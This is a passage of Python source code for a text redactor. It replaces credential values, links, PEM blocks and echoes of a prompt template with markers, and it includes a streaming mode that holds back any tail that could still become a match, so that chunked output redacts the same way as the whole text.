        # Priority order is fixed, whatever order the caller listed the kinds in.
        self.kinds: tuple[str, ...] = tuple(kind for kind in ALL_KINDS if kind in wanted)
        finders = dict(_FINDERS)
        finders[LINK] = (_link_finder(link_hosts),)
        echo = _echo_finder(template, echo_words)
        finders[PROMPT_ECHO] = (echo,) if echo is not None else ()
        self._rules = [(kind, finder) for kind in self.kinds for finder in finders[kind]]
        # A stream is never cut after one of these: an echo run could continue there.
        self.template_words: frozenset[str] = frozenset(
            word.casefold()
            for piece in (template_literals(template) if echo is not None and PROMPT_ECHO in wanted else ())
            for word in _WORD_RE.findall(piece)
        )

    def stream(self) -> StreamingRedaction:
        """A redaction of a text arriving in pieces that releases exactly ``redact(whole)``."""
        return StreamingRedaction(self)

    def redact(self, text: str) -> RedactionResult:
        """Replace every value of the configured kinds; count the replacements per kind."""
        counts: Counter[str] = Counter()
        # Rules run in priority order, each on the previous one's output, so a value is
        # replaced once. Then again, until a pass finds nothing: a replacement can expose
        # a neighbour that was glued to the value (and idempotence needs a fixpoint).
        while True:
            found = 0
            for kind, finder in self._rules:
                spans = finder(text)
                if spans:
                    text = _replace(text, spans, marker(kind))
                    counts[kind] += len(spans)
                    found += len(spans)
            if not found:
                return RedactionResult(text=text, counts=dict(counts))


_DEFAULT = Redactor()


def redact(text: str) -> RedactionResult:
    """Redact every kind, with a shared :class:`Redactor`."""
    return _DEFAULT.redact(text)



# --- streaming ------------------------------------------------------------------------

# A word after which a stream may be cut: letters only (any script), optionally closed by
# sentence punctuation. Digits, '@', quotes, brackets, '=', ':' and the like can all be
# part of a value or a link that continues past the next space, so a cut never follows
# them.
_CLEAN_WORD_RE = re.compile(r"[^\W\d_]+[.,!?]?")
# Words that a value continues from across a blank: a bearer token, an assignment to a
# credential word ("api key = …" is judged from the word before '='), an HTML attribute
# whose '=' may come after a space.
_CARRYING_WORDS = frozenset(
    {"bearer", "src", "href", "srcset", "action", "formaction", "poster", "background", "data"}
)
# A line that may still become a reference definition (``[id]: url``) is judged from its
# start, so it is released only whole.
_REFERENCE_START_RE = re.compile(r"[ \t]{0,3}\[")
_PEM_BEGIN = "-----BEGIN"
# Endings that close an open inline link or quoted HTML attribute, to ask "could this
# still become a match?" of a regex that has no partial-match mode.
_LINK_CLOSERS = (")", '")', "')", "))", ">)", "x)", " x)")
_PEM_END = "-----END"


class StreamingRedaction:
    """Redaction of a text that arrives in pieces, equal to redacting the whole at once.

    ``feed`` returns the part of the text that can no longer change, redacted; the rest
    (the shortest tail that could still become, or extend, a match) is held back until
    more text or ``finish`` arrives. The stream is cut only after a blank that follows a
    *clean* word (letters, not a credential word, not one of the function's template
    words), outside an unfinished PEM block, link destination, quoted HTML attribute or
    possible reference definition. No rule's match can cross such a cut, and every rule
    sees the same neighbours on both sides (each piece is redacted with the blanks before
    it as context), so the pieces redact exactly as the whole does; the property tests
    check it for arbitrary texts and chunkings.
    """

    def __init__(self, redactor: Redactor) -> None:
        self._redactor = redactor
        self._pending = ""
        # What the rules see before ``_pending``: the blanks that preceded it (line
        # starts, lookbehinds), after a NUL when the line began earlier, which no rule
        # matches and which, unlike a string start, is not a line start.
        self._context = ""
        self.counts: Counter[str] = Counter()
        # A template with words outside ASCII could be echoed from inside such a run.
        self._script_cuts = all(word.isascii() for word in redactor.template_words)

    def feed(self, text: str) -> str:
        """Add the next piece; return what is now final (possibly nothing)."""
        if not self._redactor.kinds:
            return text  # nothing to find: nothing to hold back
        self._pending += text
        cut = self._last_cut()
        if cut <= 0:
            return ""
        head, self._pending = self._pending[:cut], self._pending[cut:]
        released = self._redact(head)
        blanks = head[len(head.rstrip()) :]
        self._context = blanks if "\n" in blanks else "\x00" + blanks
        return released

    def finish(self) -> str:
        """The end of the text: release (redacted) whatever was held back."""
        head, self._pending = self._pending, ""
        return self._redact(head) if head else ""

    def _redact(self, piece: str) -> str:
        context = self._context
        result = self._redactor.redact(context + piece)
        self.counts.update(result.counts)
        # The context is blanks, never part of a match, so it comes back unchanged.
        return result.text[len(context) :]

    def _last_cut(self) -> int:
        text = self._pending
        limit, spans = _constructs(text)
        # After a blank that follows a clean word. A cut at the very end (the blank run
        # may still grow) is safe too: the next piece then starts with blanks, and is
        # judged with these as context.
        candidates = [
            (match.end(), match.start("word"))
            for match in _CUT_RE.finditer(text, 0, limit)
            if self._clean(match.group("word"))
        ]
        if self._script_cuts:
            # Between two letters outside ASCII (scripts written without blanks): no
            # value kind matches them, and no template word contains them.
            candidates += [
                (match.end(), match.start())
                for match in _SCRIPT_CUT_RE.finditer(text)
                if match.end() < min(limit, len(text))
            ]
        for cut, word_start in sorted(candidates, reverse=True):
            if not any(start < cut < end for start, end in spans) and not self._in_reference_line(word_start):
                return cut
        return 0

    def _clean(self, word: str) -> bool:
        if _CLEAN_WORD_RE.fullmatch(word) is None:
            return False
        bare = word.rstrip(".,!?").casefold()
        # The value patterns look only at ASCII around them: after a letter of another
        # script, "Bearer" starts a token as if it began the word.
        ascii_tail = bare[len(bare.rstrip("abcdefghijklmnopqrstuvwxyz")) :]
        return (
            bare not in _CARRYING_WORDS
            and ascii_tail not in _CARRYING_WORDS
            and not bare.endswith(_ALL_CREDENTIAL_WORDS)
            and bare not in self._redactor.template_words
        )

    def _in_reference_line(self, word_start: int) -> bool:
        # A line that began in an earlier piece was cut inside, so it was not one.
        full = self._context + self._pending
        line_start = full.rfind("\n", 0, len(self._context) + word_start) + 1
        if line_start == 0 and self._context:
            return False
        return _REFERENCE_START_RE.match(full, line_start) is not None


def _constructs(text: str) -> tuple[int, list[Span]]:
    """Where the earliest construct that may still grow into a match starts (else the
    end), and the spans of finished ones: PEM blocks, inline links, quoted HTML
    attributes, whose insides (a title, a PEM label) may hold clean words."""
    limit, spans = len(text), []
    for begin in _all(text, _PEM_BEGIN):
        found = _PEM_RE.match(text, begin)
        if found is None:
            closed = "\n" in text[begin:]  # the header is one line
        else:
            rest = text[found.end() : found.end() + len(_PEM_END)]
            closed = found.group("end") is not None or (rest != "" and not _PEM_END.startswith(rest))
            spans.append(found.span())
        if not closed:
            limit = min(limit, begin)
            break
    for link in _all(text, "]("):
        found = _INLINE_LINK_RE.match(text, link)
        if found is not None:
            spans.append(found.span())
        elif any(
            (m := _INLINE_LINK_RE.match(text + closer, link)) is not None and m.end() > len(text)
            for closer in _LINK_CLOSERS
        ):
            limit = min(limit, link)
            break
    spans.extend(m.span() for m in _HTML_URL_ATTR_RE.finditer(text))
    spans.extend(m.span() for m in _AUTOLINK_RE.finditer(text))
    autolink = _OPEN_AUTOLINK_RE.search(text)
    if autolink is not None:
        limit = min(limit, autolink.start())
    quote = _OPEN_ATTRIBUTE_RE.search(text)
    if quote is not None:
        limit = min(limit, quote.start())
    return limit, spans


def _all(text: str, needle: str) -> Iterator[int]:
    position = text.find(needle)
    while position >= 0:
        yield position
        position = text.find(needle, position + 1)


# A word (a run of non-blanks) and the blanks after it: where a stream is cut.
_CUT_RE = re.compile(r"(?P<word>\S+)\s+")
# Two letters outside ASCII in a row: where text without blanks (Chinese, Japanese) is cut.
_SCRIPT_CUT_RE = re.compile(r"[^\W\d_\x00-\x7f](?=[^\W\d_\x00-\x7f])")
# An autolink still open at the end of the text (its URL may hold such letters).
_OPEN_AUTOLINK_RE = re.compile(r"<[A-Za-z][A-Za-z0-9+.-]{1,31}+:[^\s<>]*+\Z")
# An HTML URL attribute whose quoted value is still open at the end of the text.
_OPEN_ATTRIBUTE_RE = re.compile(
    r"""\b(?:src|href|srcset|action|formaction|poster|background|data)[\ \t]*+=[\ \t]*+
    (?:"[^"]*+|'[^']*+)\Z""",
    re.IGNORECASE | re.VERBOSE,
)

